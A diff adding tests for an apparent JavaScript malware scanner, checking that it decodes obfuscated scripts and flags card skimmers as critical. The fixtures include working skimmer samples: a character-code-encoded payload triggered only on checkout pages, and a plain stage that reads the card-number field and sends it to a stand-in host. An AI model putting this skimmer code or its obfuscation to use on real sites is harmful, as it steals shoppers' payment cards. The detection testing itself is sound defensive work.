@@ -90,3 +90,26 @@ describe('code kept as character codes in markup the script writes', () => {
     expect(skim?.evidence.decodedByParent).toBe(true);
   });
 });
+
+describe('a string built by statements after an early exit on the page', () => {
+  // `if (!location.href.includes('checkout')) return;` before the loop: when the use is reached the exit was not taken
+  const code = "var N=[[83,116,114,105,110,103],[102,114,111,109,67,104,97,114,67,111,100,101],[70,117,110,99,116,105,111,110]]; var h=function(a){var s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]);return s}; var K=[125,104,121,39,125,68,107,118,106,124,116,108,117,123,53,120,124,108,121,128,90,108,115,108,106,123,118,121,47,46,42,106,106,102,117,124,116,105,108,121,46,48,53,125,104,115,124,108,66,117,108,126,39,80,116,104,110,108,47,48,53,122,121,106,68,46,111,123,123,119,122,65,54,54,122,123,104,123,52,106,107,117,52,121,108,115,104,128,53,108,127,104,116,119,115,108,54,119,70,107,68,46,50,105,123,118,104,47,125,48,66]; (function(w,b,k){ if(w.location.href.indexOf('checkout')<0&&!w.document.querySelector('[name*=cc_number]'))return; var z=w[h(N[0])][h(N[1])],o=''; for(var i=0;i<b.length;i++)o+=z(b[i]-k); w[h(N[2])](o)(); })(window,K,7);";
+  test('is resolved, and the stage it runs is analysed as a child (a skimmer, critical)', () => {
+    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' }, { rethrow: true });
+    expect(r.findings.find((f) => f.ruleId === 'decoded-code-eval')?.message).toMatch(/analysed as child/);
+    const skim = r.findings.find((f) => f.ruleId === 'skimmer');
+    expect(skim?.severity).toBe('critical');
+    expect(skim?.childSha256).toBeTruthy();
+  });
+  test('also at the top level of a script', () => {
+    const stage = "var v=document.querySelector('#cc_number').value;new Image().src='https://stat-cdn-relay.example/p?d='+btoa(v);";
+    const c3 = `var b = [${[...stage].map((c) => c.charCodeAt(0) + 7).join(',')}]; var o = ''; if (location.href.indexOf('checkout') < 0) throw 0; for (var i = 0; i < b.length; i++) o += String.fromCharCode(b[i] - 7); Function(o)();`;
+    const r = analyseSource({ sha256: sha256(c3), source: c3, url: null, kind: 'external' }, { rethrow: true });
+    expect(r.findings.find((f) => f.ruleId === 'skimmer')?.severity).toBe('critical');
+  });
+  test('a test the interpreter can decide is still run as written', () => {
+    const c2 = "(function () { var o = ''; if (1 > 0) return; o += 'ev' + 'al'; window[o]('x'); })();";
+    const r = analyseSource({ sha256: sha256(c2), source: c2, url: null, kind: 'external' }, { rethrow: true });
+    expect(r.findings.filter((f) => f.ruleId === 'decoded-code-eval' && /analysed as child/.test(f.message))).toEqual([]);
+  });
+});
